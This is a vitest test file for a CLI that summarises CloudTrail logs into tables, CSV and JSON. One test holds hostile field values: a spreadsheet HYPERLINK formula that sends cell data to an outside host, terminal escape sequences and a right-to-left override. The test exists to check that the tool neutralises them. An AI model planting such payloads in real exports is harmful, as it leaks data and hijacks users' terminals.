import { beforeAll, describe, expect, it } from 'vitest'
import { statsDocumentSchema } from '../../src/contract/trail-stats.ts'
import { colourCodes, displayWidth } from '../../src/core/render/text-width.ts'
import type { JsonObject } from '../../src/core/trail/bounded-json.ts'
import { eventId, trailRecord } from '../../src/testing/trail-records.ts'
import { expectGolden } from '../golden/golden.ts'
import { type TestCli, testCli } from './test-host.ts'

const cli: TestCli = await testCli()
const stats = (argv: string, columns = 80) => cli.run(`trail stats ${argv}`, { columns })

const widest = (out: string): number => Math.max(...out.split('\n').map(displayWidth))

/** A file of records; the fields that are said, and ids of their own. */
const fileOf = (name: string, records: readonly JsonObject[]): Promise<string> =>
  cli.write(name, JSON.stringify({ Records: records.map((fields, index) => trailRecord({ eventID: eventId(index), ...fields })) }))

describe('the trail of the sample organisation, counted', () => {
  it.each([80, 120])('at %i columns', async (columns) => {
    const { code, out, err } = await stats('--sample', columns)
    expect({ code, err }).toEqual({ code: 0, err: '' })
    expect(widest(out)).toBeLessThanOrEqual(columns)
    expectGolden(`cli/trail-stats-sample-${columns}.txt`, out)
  })

  it('as CSV, with what was left out', async () => {
    expectGolden('cli/trail-stats-sample.csv', (await stats('--sample --format csv --top 3')).out)
  })

  it('as JSON, where every list comes to the same sum', async () => {
    const document = statsDocumentSchema.parse(JSON.parse((await stats('--sample --format json')).out))
    const { lists, totals, byServices, hidden, unnamed, withoutAddress } = document
    const sum = (rows: readonly { readonly events: number }[] = []) => rows.reduce((all, { events }) => all + events, 0)
    expect((document.coverage.records ?? 0) - document.coverage.duplicates).toBe(totals.events)
    expect(sum(lists.principals?.rows) + byServices + hidden.events + unnamed).toBe(totals.events)
    for (const list of [lists.failedSignIns, lists.actions, lists.accounts, lists.regions, lists.services])
      expect(sum(list?.rows)).toBe(totals.events)
    for (const list of [lists.countries, lists.networks]) expect(sum(list?.rows) + withoutAddress).toBe(totals.events)
    expect(document).toMatchObject({ sample: true, by: 'day', only: null })
  })
})

describe('a night of guesses, and a quiet week before it', () => {
  const failed = { responseElements: { ConsoleLogin: 'Failure' }, errorMessage: 'Failed authentication' }
  const guesses = Array.from({ length: 12 }, (_, minute) => ({ ...failed, eventTime: `2026-11-21T01:${10 + minute}:00Z` }))
  const night = [...guesses, { eventTime: '2026-11-21T06:14:00Z' }]
  const week = Array.from({ length: 60 }, (_, hour) => ({ eventTime: new Date(Date.UTC(2026, 10, 14, hour)).toISOString() }))
  let file: string
  beforeAll(async () => {
    file = await fileOf('night.json', [...week, ...night])
  })

  it('says the same with colour as without', async () => {
    const plain = await stats(file)
    const coloured = await cli.run(`trail stats ${file}`, { terminal: ['out'] })
    expect(coloured.out).not.toBe(plain.out)
    expect(coloured.out.replaceAll(colourCodes, '')).toBe(plain.out)
  })

  it('is told by hour when it is about three days at most, or when that was asked', async () => {
    expect((await stats(file)).out).toMatch(/BY DAY, UTC[^]*21 Nov +12 +· +█{12} +1 [^]*NETWORKS/)
    expect((await stats(file)).out).toContain('4 days without any event')
    expect((await stats(`${file} --from 2026-11-20`)).out).toMatch(
      /BY HOUR, UTC[^]*21 Nov 01:00 +12 +· +█{12} +· [^]*4 hours without any event/,
    )
    expect((await stats(`${file} --from 2026-11-20 --by day`)).out).toContain('BY DAY, UTC')
    expect((await stats(`${file} --by hour`)).out).toContain('31 earlier hours: --only failed-sign-ins shows all')
    expect((await stats(`${file} --by hour --only failed-sign-ins`)).out).not.toContain('earlier')
  })

  it.each([
    ['failed-sign-ins', 'FAILED SIGN-INS'],
    ['countries', 'COUNTRIES'],
    ['networks', 'NETWORKS'],
    ['actions', 'ACTIONS'],
    ['principals', 'PRINCIPALS'],
    ['accounts', 'ACCOUNTS'],
    ['regions', 'REGIONS'],
    ['services', 'SERVICES'],
  ])('only %s', async (only, heading) => {
    const { out } = await stats(`${file} --only ${only}`)
    expect(out.split('\n').filter((line) => /^ {2}[A-Z]{3}/.test(line))).toMatchObject([expect.stringContaining(heading)])
  })

  it('as JSON lines, with what was left out', async () => {
    const { out } = await stats(`${file} --format jsonl --top 1 --only failed-sign-ins`)
    const lines = out
      .trim()
      .split('\n')
      .map((line): unknown => JSON.parse(line))
    expect(lines).toHaveLength(5)
    expect(lines).toMatchObject([{ list: 'totals', events: 73 }, { list: 'failedSignIns', events: 24 }, {}, {}, { failedRootSignIns: 12 }])
    const users = [1, 2, 3].map((number) => ({ userIdentity: { type: 'IAMUser', accountId: '777788889999', userName: `user-${number}` } }))
    const shown = await stats(`${await fileOf('users.json', users)} --format jsonl --top 1 --only principals`)
    expect(shown.out).toContain('{"list":"principals","left":{"rows":2,"events":2},"forgotten":{"rows":0,"events":0}}')
  })
})

describe('files', () => {
  it('are read whole, which is said, unless nothing but the result is wanted', async () => {
    const file = await fileOf('one.json', [{}])
    const { code, out, err } = await stats(file)
    expect(code).toBe(0)
    expect(err.replaceAll('\n', ' ')).toContain('Every record is read and parsed for this.')
    expect(out).toContain('no country is known: --places FILE brings a table of places')
    expect(out).toMatch(/203\.0\.113\.0\/24 +· +· +1 /)
    expect(await stats(`${file} --quiet`)).toMatchObject({ code: 0, err: '' })
  })

  it('that say nothing are not empty tables', async () => {
    const file = await fileOf('one.json', [{}])
    const { code, out } = await stats(`${file} --from 2027-01-01`)
    expect(code).toBe(0)
    expect(out).toContain('There is no event to count')
    expect(await stats('--quiet')).toMatchObject({ code: 2, out: '' })
    expect(await stats(`${file} --top 0`)).toMatchObject({ code: 2, out: '' })
  })

  it('whose sign-ins hide the names tell of no such user, and what could not be read is told', async () => {
    const userIdentity = { type: 'IAMUser', accountId: '777788889999', userName: 'HIDDEN_DUE_TO_SECURITY_REASONS' }
    const failed = { userIdentity, responseElements: { ConsoleLogin: 'Failure' }, errorMessage: 'Failed authentication' }
    await fileOf('hidden.json', [failed, failed, failed])
    await cli.write('broken.json', '{"Records":[')
    const { out } = await stats(`${cli.path('hidden.json')} ${cli.path('broken.json')}`)
    expect(out).not.toContain('HIDDEN')
    expect(out.replaceAll(/\s+/g, ' ')).toContain('3 events under names that CloudTrail hides, 3 failed sign-ins among them')
    expect(out).toContain('COULD NOT SEE')
    const { out: csv } = await stats(`${cli.path('hidden.json')} --format csv`)
    expect(csv).toContain('\r\nprincipals,,name hidden by CloudTrail,,3,0,0,0,0,3,,,,\r\n')
  })

  it('with hostile words neither steer a terminal nor run in a spreadsheet', async () => {
    const hostile = [
      '=HYPERLINK("https://example.com/?"&A1,"open")',
      '\u001b]0;owned\u0007\u001b[2Jclean',
      '\u202eatad\u202c\u0000\n@SUM(1+1)',
      '本番'.repeat(4000),
    ]
    const file = await fileOf(
      'hostile.json',
      hostile.map((words) => ({
        userIdentity: { type: 'IAMUser', accountId: '777788889999', userName: words },
        eventName: words,
        eventSource: words,
        awsRegion: words,
        sourceIPAddress: words,
      })),
    )
    for (const format of ['table', 'csv', 'json', 'jsonl']) {
      const { code, out } = await stats(`${file} --format ${format}`, 80)
      expect(code).toBe(0)
      expect(out.replaceAll(/\r?\n/g, '')).not.toMatch(/[\p{Cc}\u202e]/u)
      expect(out.length).toBeLessThan(40_000)
      if (format === 'table') expect(widest(out)).toBeLessThanOrEqual(80)
      if (format === 'csv') expect(out).not.toMatch(/(?:^|[,"])[=@]/m)
    }
  })
})
